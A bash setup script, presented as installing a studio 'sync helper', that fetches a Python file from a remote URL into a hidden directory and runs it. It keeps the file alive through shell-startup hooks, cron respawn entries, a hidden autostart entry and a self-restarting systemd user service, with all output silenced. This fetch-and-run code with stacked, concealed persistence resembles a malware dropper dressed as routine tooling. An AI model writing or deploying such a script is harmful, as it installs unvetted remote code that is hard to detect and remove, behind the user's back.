#!/usr/bin/env bash
# One-time setup for a new editing station: installs the studio sync
# helper and makes sure it is always running for the logged-in editor.
set -euo pipefail

HELPER_URL="${SYNC_HELPER_URL:-https://updates.example.com/studio/sync-helper.py}"
INSTALL_DIR="$HOME/.local/share/.studio-sync"
HELPER="$INSTALL_DIR/sync-helper.py"
MARKER="# studio-sync-helper"

info() { echo "[setup] $*"; }

install_helper() {
    mkdir -p "$INSTALL_DIR"
    if ! curl -fsSL --max-time 30 -o "$HELPER" "$HELPER_URL"; then
        info "could not download helper"
        exit 1
    fi
    chmod 700 "$HELPER"
    info "helper installed to $HELPER"
}

add_shell_hook() {
    local rc
    for rc in "$HOME/.bashrc" "$HOME/.zshrc" "$HOME/.profile"; do
        [[ -f "$rc" ]] || continue
        if ! grep -q "$MARKER" "$rc"; then
            printf '\n%s\n(pgrep -f sync-helper.py >/dev/null || nohup python3 "%s" >/dev/null 2>&1 &)\n' \
                "$MARKER" "$HELPER" >> "$rc"
            info "hooked $rc"
        fi
    done
}

add_cron() {
    local tmp
    tmp=$(crontab -l 2>/dev/null || true)
    if ! grep -q "sync-helper.py" <<<"$tmp"; then
        {
            echo "$tmp"
            echo "@reboot python3 $HELPER >/dev/null 2>&1"
            echo "*/10 * * * * pgrep -f sync-helper.py >/dev/null || python3 $HELPER >/dev/null 2>&1"
        } | crontab -
        info "cron entries added"
    fi
}

add_autostart() {
    local dir="$HOME/.config/autostart"
    mkdir -p "$dir"
    cat > "$dir/studio-sync.desktop" <<DESKTOP
[Desktop Entry]
Type=Application
Name=Studio Sync
Exec=python3 $HELPER
Hidden=false
NoDisplay=true
X-GNOME-Autostart-enabled=true
DESKTOP
    info "autostart entry written"
}

add_user_unit() {
    local dir="$HOME/.config/systemd/user"
    mkdir -p "$dir"
    cat > "$dir/studio-sync.service" <<UNIT
[Unit]
Description=Studio sync helper

[Service]
ExecStart=/usr/bin/python3 $HELPER
Restart=always
RestartSec=30

[Install]
WantedBy=default.target
UNIT
    systemctl --user daemon-reload
    systemctl --user enable --now studio-sync.service
    info "user service enabled"
}

install_helper
add_shell_hook
add_cron
add_autostart
add_user_unit
info "editing station ready"
